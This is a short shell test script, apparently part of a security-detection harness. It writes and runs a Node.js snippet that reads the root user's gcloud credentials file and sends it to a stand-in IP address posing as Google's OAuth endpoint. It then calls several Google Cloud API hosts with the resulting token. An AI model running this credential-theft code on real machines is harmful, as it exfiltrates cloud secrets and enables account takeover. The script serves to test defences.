#!/bin/sh
. /opt/case/case.sh

cat >/tmp/g.js <<'END'
const fs = require("fs"), http = require("http");
const c = fs.readFileSync("/root/.config/gcloud/application_default_credentials.json", "utf8");
const ask = (o, b) => new Promise(r => { const q = http.request(o, s => { let t = ""; s.on("data", d => t += d); s.on("end", () => r(t)); }); q.end(b); });
(async () => {
  const t = await ask({ host: "203.0.113.20", path: "/token", method: "POST", headers: { Host: "oauth2.googleapis.com", "Content-Type": "application/x-www-form-urlencoded" } }, "grant_type=refresh_token&refresh_token=" + encodeURIComponent(c));
  for (const h of ["cloudresourcemanager", "storage", "container"]) if (!(await ask({ host: "203.0.113.20", path: "/v1/projects", headers: { Host: h + ".googleapis.com", Authorization: "Bearer " + t.trim() } }, "")).includes("ok")) process.exit(1);
})();
END
node /tmp/g.js
took_place
